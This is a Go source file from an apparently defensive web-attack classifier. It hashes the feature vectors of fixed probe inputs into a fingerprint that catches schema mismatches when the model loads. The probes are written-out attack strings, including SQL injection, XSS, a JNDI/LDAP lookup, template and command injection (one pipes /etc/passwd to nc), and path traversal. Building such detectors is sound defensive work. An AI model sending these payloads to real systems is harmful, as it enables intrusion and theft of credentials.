package model

import (
	"crypto/sha256"
	"encoding/hex"
	"strconv"
	"sync"
)

// fingerprintProbes exercise every feature family. Their feature vectors
// are hashed into the model file at training time and recomputed at load,
// so a change to the feature code that forgot to bump SchemaVersion is
// still caught: the model is refused instead of silently mis-scoring.
var fingerprintProbes = []Field{
	{Part: PartQuery, Name: "q", Raw: "1%27%20UNION%2F**%2FSELECT%20user%2Cpassword%20FROM%20users--%20-", formEncoded: true},
	{Part: PartQuery, Name: "q", Raw: "admin'+or+'1'='1'#", formEncoded: true},
	{Part: PartBody, Name: "t", Raw: "<svg/onload=alert(1)> &#x6A;avascript:alert`1` \\u003cimg src=x onerror=prompt(1)\\u003e"},
	{Part: PartHeader, Name: "x", Raw: "${jndi:ldap://e.example/a} {{7*7}} <%= 7*7 %> $(id) `uname -a`; cat /etc/passwd | nc x 1"},
	{Part: PartPath, Raw: "/static/..%252f..%252f..%c0%afetc/passwd%00.jpg"},
	{Part: PartCookie, Name: "c", Raw: "php://filter/convert.base64-encode/resource=index.php"},
	{Part: PartBody, Name: "n", Raw: "Siobhán O'Connell — ＳＥＬＥＣＴ a date, drop me a line; 2 > 1 = true"},
	{Part: PartQuery, Name: "e", Raw: "a%00b%u003c%zz", formEncoded: true, nameOnly: true},
	{Part: PartHeader, Name: "user-agent", Raw: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"},
	{Part: PartQuery, Name: "t", Raw: "1-0-9-46-15--1;type=sync&us=1---&fr=02FH..Baeuv8...1.0", formEncoded: true},
	{Part: PartCookie, Name: "e", Raw: "1=1 -- x ../..\\ %c0%ae%c0%ae/ a;id b|cat"},
}

// FeatureFingerprint hashes the feature vectors of fixed probe fields.
var FeatureFingerprint = sync.OnceValue(func() string {
	h := sha256.New()
	fv := make([]float64, NumFeatures)
	var b []byte
	for i := range fingerprintProbes {
		FieldFeatures(&fingerprintProbes[i], fv)
		for _, v := range fv {
			b = strconv.AppendFloat(b[:0], v, 'g', -1, 64)
			b = append(b, ',')
			h.Write(b)
		}
		prefiltered := "0"
		if Prefiltered(&fingerprintProbes[i]) {
			prefiltered = "1"
		}
		h.Write([]byte(prefiltered + "\n"))
	}
	return SchemaVersion + ":" + hex.EncodeToString(h.Sum(nil))[:16]
})
